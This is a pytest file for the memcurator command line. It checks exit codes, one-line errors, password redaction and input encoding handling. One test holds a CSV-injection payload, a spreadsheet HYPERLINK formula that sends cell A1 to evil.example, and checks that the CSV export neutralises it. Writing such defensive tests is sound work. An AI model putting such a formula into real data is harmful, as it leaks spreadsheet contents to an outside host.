"""The CLI as a user meets it: exit codes and one-line errors (help: test_cli_console)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.factories import candidate, line

CLI = [sys.executable, "-m", "memcurator"]


def run(
    *args: str, url: str | None = None, stdin: bytes | None = None
) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MEMCURATOR_")}
    if url:
        env["MEMCURATOR_DATABASE_URL"] = url
    return subprocess.run(
        [*CLI, *args],
        env=env,
        capture_output=True,
        text=True,
        input=stdin.decode() if stdin else None,
        timeout=120,
    )


def one_line_error(result: subprocess.CompletedProcess[str]) -> str:
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]


def test_init_ingest_export_and_log_work_end_to_end(store_url: str, tmp_path: Path) -> None:
    path = tmp_path / "in.jsonl"
    good = candidate(id="c_keep", content="I'm vegetarian")
    path.write_bytes(json.dumps(good).encode() + b"\n" + line(content="okay") + b"\n")
    assert run("init", url=store_url).returncode == 0
    assert run("init", url=store_url).returncode == 0  # upgrading a current store is a no-op
    result = run("ingest", str(path), url=store_url)
    assert result.returncode == 0, result.stderr
    assert "inserted" in result.stdout and "rejected:transient" in result.stdout
    exported = run("export", "--scope", f"user_id={good['scope']['user_id']}", url=store_url)
    (entry,) = [json.loads(x) for x in exported.stdout.splitlines()]
    assert entry["id"] == "c_keep" and entry["status"] == "active"
    csv_out = run("export", "--format", "csv", "--status", "all", url=store_url)
    assert csv_out.stdout.splitlines()[0].startswith("id,type,scope,content")
    rejected = run("log", "--action", "rejected", url=store_url)
    (row,) = [json.loads(x) for x in rejected.stdout.splitlines()]
    assert row["rule"] == "transient"
    about = run("log", "--memory", "c_keep", url=store_url)
    assert [json.loads(x)["action"] for x in about.stdout.splitlines()] == ["inserted"]
    later = run("log", "--since", "2999-01-01T00:00:00Z", url=store_url)
    assert (later.returncode, later.stdout, later.stderr) == (0, "", "")


def test_schema_prints_a_json_schema_with_every_field() -> None:
    result = run("schema")
    schema = json.loads(result.stdout)
    assert set(schema["required"]) == {
        "type",
        "scope",
        "content",
        "source",
        "confidence",
        "created_at",
    }
    for field in (
        "id",
        "valid_from",
        "supersedes",
        "sensitivity",
        "subject",
        "task_id",
        "links",
        "tool",
        "symptom",
    ):
        assert field in schema["properties"], field


def test_a_missing_input_file_is_one_line_and_exit_3(store_url: str) -> None:
    run("init", url=store_url)
    result = run("ingest", "/nonexistent/candidates.jsonl", url=store_url)
    assert result.returncode == 3
    assert "cannot read /nonexistent/candidates.jsonl" in one_line_error(result)


def test_an_unreachable_database_is_one_line_and_exit_4() -> None:
    result = run("export", url="postgresql://postgres@127.0.0.1:1/nothing")
    assert result.returncode == 4
    assert "cannot reach" in one_line_error(result)


def test_a_store_without_schema_says_to_run_init(tmp_path: Path) -> None:
    result = run("export", url=f"sqlite:///{tmp_path / 'empty.db'}")
    assert result.returncode == 4
    assert "run `memcurator init`" in one_line_error(result)


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["export", "--status", "deleted"], "'deleted' is not one of"),
        (["export", "--format", "xml"], "'xml' is not one of 'jsonl', 'csv'"),
        (["export", "--scope", "planet=earth"], "--scope wants LEVEL=VALUE"),
        (["log", "--since", "last tuesday"], "--since wants an RFC 3339 time"),
        (["log", "--since", "2025-03-04T10:00:00"], "--since needs an offset"),
        (["ingest"], "Missing argument"),
        (["frobnicate"], "No such command"),
    ],
)
def test_bad_arguments_exit_2_with_one_line(args: list[str], fragment: str, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 's.db'}"
    run("init", url=url)
    result = run(*args, url=url)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert fragment in result.stderr


def test_an_unsupported_database_url_is_one_line_and_a_bad_argument() -> None:
    result = run("init", url="mysql://root@127.0.0.1/x")
    assert result.returncode == 2
    assert "unsupported database" in one_line_error(result)


@pytest.mark.parametrize("command", [["export"], ["ingest", "-"], ["init"]])
def test_a_database_url_that_does_not_parse_is_a_bad_argument_without_the_password(
    command: list[str],
) -> None:
    result = run(*command, url="postgresql://u:s3cr3t-pw@host:notaport/db")
    assert result.returncode == 2, result.stderr
    message = one_line_error(result)
    assert "cannot parse database URL" in message and "notaport" in message
    assert "s3cr3t" not in result.stderr + result.stdout


def test_psycopg_teardown_noise_is_dropped_but_its_other_warnings_are_not() -> None:
    code = (
        "import logging, store.engine\n"
        "log = logging.getLogger('psycopg')\n"
        "log.warning('error ignored terminating %r: %s', '<psycopg.Pipeline [BAD]>', 'x')\n"
        "log.warning('some other psycopg warning')\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert "error ignored terminating" not in result.stderr
    assert "some other psycopg warning" in result.stderr


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (("as-of", "--scope", "org_id=a", "--at", "0001-01-01T00:00:00+01:00"), "--at is outside"),
        (("log", "--since", "9999-12-31T23:59:59-01:00"), "--since is outside"),
        (("consolidate", "--as-of", "9999-12-31"), "as_of 9999-12-31 is outside the dates"),
        (("backfill", "--start", "1899-12-30", "--end", "1900-01-02"), "start 1899-12-30 is out"),
    ],
)
def test_a_moment_or_a_date_past_the_calendar_is_a_usage_error(
    store_url: str, args: tuple[str, ...], says: str
) -> None:
    """Found by a review (2026-12-07): each was an OverflowError, "internal error", exit 1."""
    assert run("init", url=store_url).returncode == 0
    result = run(*args, url=store_url)
    assert result.returncode == 2
    assert says in one_line_error(result)


def test_a_setting_out_of_range_is_named_without_its_value(store_url: str) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MEMCURATOR_")}
    env |= {"MEMCURATOR_DATABASE_URL": store_url, "MEMCURATOR_EXPIRE_AFTER_DAYS": "1e9"}
    result = subprocess.run(
        [*CLI, "consolidate", "--as-of", "2025-01-01"], env=env, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip
    assert result.returncode == 2
    message = one_line_error(result)
    assert message.startswith("memcurator: setting MEMCURATOR_EXPIRE_AFTER_DAYS: ")
    assert "1e9" not in message and "1000000000" not in message


def test_the_csv_export_keeps_a_spreadsheet_from_running_content_as_a_formula(
    store_url: str, tmp_path: Path
) -> None:
    import csv
    import io

    path = tmp_path / "in.jsonl"
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click") is my status page'
    path.write_bytes(line(id="c_formula", content=hostile) + b"\n")
    assert run("init", url=store_url).returncode == 0
    assert run("ingest", str(path), url=store_url).returncode == 0
    exported = run("export", "--format", "csv", url=store_url)
    (row,) = csv.DictReader(io.StringIO(exported.stdout))
    assert row["content"] == "'" + hostile
    (entry,) = [json.loads(x) for x in run("export", url=store_url).stdout.splitlines()]
    assert entry["content"] == hostile  # the store and the JSON Lines keep it as it was


def test_input_and_output_that_fail_below_the_cli_are_named_not_internal(
    store_url: str, tmp_path: Path
) -> None:
    """Found by a review (2026-12-07): each was "internal error" (exit 1)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("MEMCURATOR_")}
    env["MEMCURATOR_DATABASE_URL"] = store_url
    assert run("init", url=store_url).returncode == 0
    closed = subprocess.run(
        [*CLI, "ingest", "-"], env=env, capture_output=False, stderr=subprocess.PIPE,
        stdout=subprocess.DEVNULL, text=True, timeout=120, preexec_fn=lambda: os.close(0),
    )  # fmt: skip
    assert closed.returncode == 3
    assert "cannot read standard input: it is closed" in one_line_error(closed)
    unnamed = run("ingest", "", url=store_url)
    assert unnamed.returncode == 2 and "no input file named" in one_line_error(unnamed)
    if Path("/dev/full").exists():
        path = tmp_path / "in.jsonl"
        path.write_bytes(line() + b"\n")
        assert run("ingest", str(path), url=store_url).returncode == 0
        with open("/dev/full", "w") as full:
            result = subprocess.run(
                [*CLI, "export"], env=env, stdout=full, stderr=subprocess.PIPE, text=True,
                timeout=120,
            )  # fmt: skip
        assert result.returncode == 3
        assert "input/output error" in one_line_error(result)


def test_a_scope_level_given_twice_with_two_values_is_a_usage_error(store_url: str) -> None:
    """Found by a review (2026-12-07): the last value was kept silently."""
    assert run("init", url=store_url).returncode == 0
    result = run("export", "--scope", "org_id=a", "--scope", "org_id=b", url=store_url)
    assert result.returncode == 2
    assert "--scope org_id given twice" in one_line_error(result)
    same = run("export", "--scope", "org_id=a", "--scope", "org_id=a", url=store_url)
    assert same.returncode == 0  # the same value twice is no contradiction


@pytest.mark.parametrize(
    ("encode", "says"),
    [
        (lambda text: text.encode("utf-16"), "it is UTF-16 or UTF-32, not UTF-8"),
        (lambda text: text.encode("utf-16-le"), "it is UTF-16 or UTF-32, not UTF-8"),
        (lambda text: __import__("gzip").compress(text.encode()), "it is gzip-compressed"),
    ],
)
def test_a_file_that_is_not_utf8_text_is_named_not_read_as_bad_json(
    store_url: str, tmp_path: Path, encode: Any, says: str
) -> None:
    """A UTF-16 file (what PowerShell's `>` writes) was one "Invalid JSON" per line, exit 0
    (a review, 2026-12-07)."""
    path = tmp_path / "in.jsonl"
    path.write_bytes(encode(json.dumps(candidate()) + "\n"))
    assert run("init", url=store_url).returncode == 0
    result = run("ingest", str(path), url=store_url)
    assert result.returncode == 3
    assert says in one_line_error(result)
    assert run("export", "--status", "all", url=store_url).stdout == ""
